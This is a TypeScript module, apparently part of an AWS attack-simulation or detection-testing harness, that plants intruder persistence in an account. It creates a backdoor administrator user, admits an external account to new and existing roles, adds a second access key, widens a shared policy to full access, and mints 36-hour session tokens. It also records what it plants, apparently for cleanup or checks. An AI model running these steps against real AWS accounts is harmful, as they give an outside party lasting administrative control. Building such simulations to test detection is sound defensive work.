import {
  AttachRolePolicyCommand, AttachUserPolicyCommand, CreateAccessKeyCommand, CreateLoginProfileCommand, CreatePolicyVersionCommand, CreateRoleCommand, CreateUserCommand, GetPolicyCommand, ListRolesCommand, ListUsersCommand,
  PutRolePolicyCommand, UpdateAssumeRolePolicyCommand,
} from '@aws-sdk/client-iam';
import { ListBucketsCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { AssumeRoleCommand, GetCallerIdentityCommand, GetSessionTokenCommand } from '@aws-sdk/client-sts';
import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import { keysOf } from '../world/accounts';
import { admin } from '../world/policies';
import type { AwsWorld } from '../world';
import type { Clients } from '../clients';
import type { Aws } from '../start';
import { externalAccount, externalActor, patiently } from './tools';
import type { Live, Planted } from './types';

/** What an intruder looks at first. */
export async function lookAround(as: Clients): Promise<void> {
  await as.sts.send(new GetCallerIdentityCommand({}));
  await as.iam.send(new ListUsersCommand({}));
  await as.iam.send(new ListRolesCommand({}));
  await as.s3.send(new ListBucketsCommand({}));
  await as.ec2.send(new DescribeInstancesCommand({}));
}

const listUsers = (clients: Clients): Promise<unknown> => clients.iam.send(new ListUsersCommand({}));
const sessionKeys = (credentials: { AccessKeyId?: string; SecretAccessKey?: string; SessionToken?: string } | undefined) => ({ ...keysOf(credentials), sessionToken: credentials!.SessionToken! });
export const stolen = (keys: Live['keys'], name: string): Live => ({ what: `${name}’s stolen key`, keys, probe: listUsers });

/** A new administrator with password and key. */
export async function plantUser(as: Clients, planted: Planted): Promise<Live> {
  const UserName = 'svc-backup-sync';
  await as.iam.send(new CreateUserCommand({ UserName }));
  await as.iam.send(new CreateLoginProfileCommand({ UserName, Password: `Br34k-in-${Date.now()}!`, PasswordResetRequired: false }));
  const { AccessKey } = await as.iam.send(new CreateAccessKeyCommand({ UserName }));
  await as.iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: admin }));
  planted.users.push(UserName);
  planted.accessKeys.push({ user: UserName, id: AccessKey!.AccessKeyId! });
  return { what: `${UserName}’s key`, keys: keysOf(AccessKey), probe: listUsers };
}

/** A role that the attacker's own account may enter, and a session of it. */
export async function plantRole(aws: Aws, as: Clients, account: string, planted: Planted, RoleName = 'OrgSupportAccess'): Promise<Live> {
  const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${externalAccount}:root` }, Action: 'sts:AssumeRole' }] };
  await as.iam.send(new CreateRoleCommand({ RoleName, AssumeRolePolicyDocument: JSON.stringify(trust) }));
  await as.iam.send(new AttachRolePolicyCommand({ RoleName, PolicyArn: admin }));
  await as.iam.send(new PutRolePolicyCommand({ RoleName, PolicyName: 'support', PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) }));
  planted.roles.push(RoleName);
  planted.inlinePolicies.push({ kind: 'role', name: RoleName, policy: 'support' });
  const outside = await externalActor(aws);
  const { Credentials } = await patiently('the planted role', () => outside.sts.send(new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${account}:role/${RoleName}`, RoleSessionName: 'support' })));
  outside.close();
  return { what: `a session of ${RoleName} from account ${externalAccount}`, keys: sessionKeys(Credentials), probe: listUsers };
}

/** Lets the attacker's account into a role that was there, and enters it. */
export async function openTrust(as: Clients, world: AwsWorld, planted: Planted): Promise<Live> {
  const { account } = world.production;
  const { syncRole, ordersBucket } = world.names;
  const statement = (arn: string): object => ({ Effect: 'Allow', Principal: { AWS: arn }, Action: 'sts:AssumeRole' });
  const trust = { Version: '2012-10-17', Statement: [statement(`arn:aws:iam::${account}:root`), statement(`arn:aws:iam::${externalAccount}:root`)] };
  await as.iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: syncRole, PolicyDocument: JSON.stringify(trust) }));
  planted.changedTrusts.push({ role: syncRole });
  const { Credentials } = await patiently('the opened trust', () => as.sts.send(new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${account}:role/${syncRole}`, RoleSessionName: 'sync' })));
  return { what: `a session of ${syncRole}`, keys: sessionKeys(Credentials), probe: (clients) => clients.s3.send(new ListObjectsV2Command({ Bucket: ordersBucket })) };
}

/** A second key on a user who has one. */
export async function plantSecondKey(as: Clients, world: AwsWorld, planted: Planted): Promise<Live> {
  const UserName = world.deployer.name;
  const { AccessKey } = await as.iam.send(new CreateAccessKeyCommand({ UserName }));
  planted.accessKeys.push({ user: UserName, id: AccessKey!.AccessKeyId! });
  return { what: `a second key of ${UserName}`, keys: keysOf(AccessKey), probe: (clients) => clients.s3.send(new ListObjectsV2Command({ Bucket: world.names.websiteBucket })) };
}

/** Turns a harmless policy that users hold into an administrator's. */
export async function widenPolicy(as: Clients, world: AwsWorld, planted: Planted): Promise<void> {
  const PolicyArn = world.names.sharedPolicyArn;
  const { Policy } = await as.iam.send(new GetPolicyCommand({ PolicyArn }));
  const document = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] };
  const { PolicyVersion } = await as.iam.send(new CreatePolicyVersionCommand({ PolicyArn, PolicyDocument: JSON.stringify(document), SetAsDefault: true }));
  planted.policyVersions.push({ arn: PolicyArn, version: PolicyVersion!.VersionId!, previous: Policy!.DefaultVersionId! });
}

/** A session that outlives the key it came from. */
export async function keepSession(as: Clients, name: string): Promise<Live> {
  const { Credentials } = await as.sts.send(new GetSessionTokenCommand({ DurationSeconds: 36 * 3600 }));
  // Such a session may not call IAM; EC2 is where it does harm.
  return { what: `a 36-hour session of ${name}`, keys: sessionKeys(Credentials), probe: (clients) => clients.ec2.send(new DescribeInstancesCommand({})) };
}

